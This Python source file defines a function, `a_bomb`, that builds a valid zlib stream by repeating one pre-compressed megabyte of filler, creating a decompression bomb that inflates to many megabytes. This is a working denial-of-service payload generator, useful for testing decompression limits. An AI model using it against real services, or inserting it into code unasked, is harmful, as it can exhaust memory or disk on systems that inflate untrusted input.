"""What takes much more room once it is unpacked. Packing that takes seconds: one packed megabyte follows itself."""

import zlib
from functools import cache

MEGABYTE = 1_000_000


@cache
def a_bomb(megabytes: int, filler: bytes = b" ", begins: bytes = b"") -> bytes:
    """What inflates (RFC 1950) to `begins` and so many megabytes of `filler`, which is of a length that divides one."""
    packer, piece, checksum = zlib.compressobj(9), filler * (MEGABYTE // len(filler)), zlib.adler32(begins)
    head, again = (packer.compress(each) + packer.flush(zlib.Z_FULL_FLUSH) for each in (begins, piece))
    for _ in range(megabytes):
        checksum = zlib.adler32(piece, checksum)
    # An empty last block of its own (RFC 1951 §3.2.3), and the checksum of it all.
    return head + again * megabytes + b"\x03\x00" + checksum.to_bytes(4)
